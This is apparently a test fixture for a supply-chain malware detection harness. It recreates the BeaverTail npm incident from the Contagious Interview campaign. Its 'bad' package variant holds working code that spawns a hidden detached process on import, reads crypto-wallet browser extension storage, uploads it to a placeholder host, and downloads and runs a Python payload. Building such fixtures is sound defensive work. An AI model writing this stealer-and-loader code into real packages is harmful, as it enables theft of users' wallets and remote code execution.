import type { Incident } from '../../harness/types.ts';

const extension = '.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn';

export const incident: Incident = {
  name: 'beavertail',
  after: 'BeaverTail in npm packages of the Contagious Interview campaign, 2024 to 2026',
  source: 'https://unit42.paloaltonetworks.com/two-campaigns-by-north-korea-bad-actors-target-job-hunters/',
  shape: ['require', 'express', 'detached node child', 'wallet extensions', 'upload', 'foreign runtime', 'cjs'],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['log-tint'],
  host: {
    kind: 'express',
    setup: "const { tint } = require('log-tint');",
    use: 'return tint(n);',
    files: { [`../home/${extension}/000003.log`]: '{"vault":"@CANARY@"}' },
  },
  good: { 'log-tint': { 'index.js': "exports.tint = (n) => '<' + n + '>';" } },
  benign: { 'log-tint': { 'index.js': "exports.tint = (n) => '<' + Number(n) + '>';" } },
  bad: {
    'log-tint': {
      'index.js': `exports.tint = (n) => '<' + n + '>';
require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'lib/writer.js')], { detached: true, stdio: 'ignore' }).unref();`,
      'lib/writer.js': `const fs = require('fs'), os = require('os'), path = require('path'), http = require('http'), { spawn } = require('child_process');
const at = path.join(os.homedir(), '${extension}'), parts = [];
for (const file of fs.readdirSync(at)) parts.push(fs.readFileSync(path.join(at, file)));
const q = http.request({ host: '@B@', port: @PORT@, path: '/uploads', method: 'POST' }, (r) => r.resume().on('end', () => {
  http.get('http://@B@:@PORT@/client/99', (s) => {
    const out = path.join(os.homedir(), '.npl'); s.pipe(fs.createWriteStream(out)).on('finish', () => spawn('python3', [out], { detached: true, stdio: 'ignore' }).unref());
  });
}));
q.on('error', () => {}); q.end(Buffer.concat(parts));`,
    },
  },
  serves: { '/client/99': 'print("hello")\n' },
  proof: [{ secret: true }, { stub: '.npl' }],
};
